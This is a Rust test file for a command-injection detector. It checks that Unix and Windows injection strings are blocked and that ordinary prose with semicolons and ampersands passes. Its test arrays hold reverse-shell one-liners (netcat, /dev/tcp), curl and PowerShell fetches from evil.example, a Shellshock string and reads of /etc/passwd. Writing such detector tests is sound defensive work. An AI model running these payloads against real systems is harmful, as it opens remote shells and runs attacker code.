//! OS command injection: separators followed by commands, substitutions, shell tricks,
//! Windows cmd and PowerShell; prose with semicolons, ampersands and tool-like words is clean.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use support::request::*;

#[test]
fn unix_command_injection_is_blocked() {
    let det = detector();
    assert_blocked(
        &det,
        &[
            "; cat /etc/passwd",
            "127.0.0.1 && whoami",
            "x | nc -e /bin/sh 10.0.0.1 4444",
            "$(curl http://evil.example/x.sh)",
            "a=`;id`",
            "/bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "echo d2hvYW1p | base64 -d | sh",
            "() { :; }; /bin/bash -c 'id'",
            "x;ping -c 3 evil.example",
            "curl -s http://evil.example/payload",
        ],
    );
}

#[test]
fn windows_command_injection_is_blocked() {
    let det = detector();
    assert_blocked(
        &det,
        &[
            "& cmd.exe /c dir",
            "powershell -enc SQBFAFgA",
            "| Invoke-WebRequest http://evil.example/a.ps1",
            "for /f %i in ('whoami') do echo %i",
            "if exist c:\\boot.ini echo yes",
        ],
    );
}

#[test]
fn finding_uses_a_command_technique() {
    let det = detector();
    let i = query_value(&det, "; whoami");
    let f = i
        .findings
        .iter()
        .find(|f| f.id == "rce.unix_command_chain")
        .unwrap();
    assert_eq!(f.attack_technique, "T1059.004");
    assert_eq!(f.cwe, 78);
}

#[test]
fn prose_and_tags_are_clean() {
    let det = detector();
    assert_clean(
        &det,
        &[
            "Ruby",
            "Perl Jensen",
            "python tutorial",
            "curl hair products",
            "Tom & Jerry",
            "Ready; set; go",
            "We're in Raleigh; NC is lovely",
            "Try `ls -la` in your home folder",
            "I love Python, Ruby & Go; Perl not so much.",
            "P.S. thanks",
            "ls engine swap",
            "Line one\nPS: line two",
        ],
    );
}
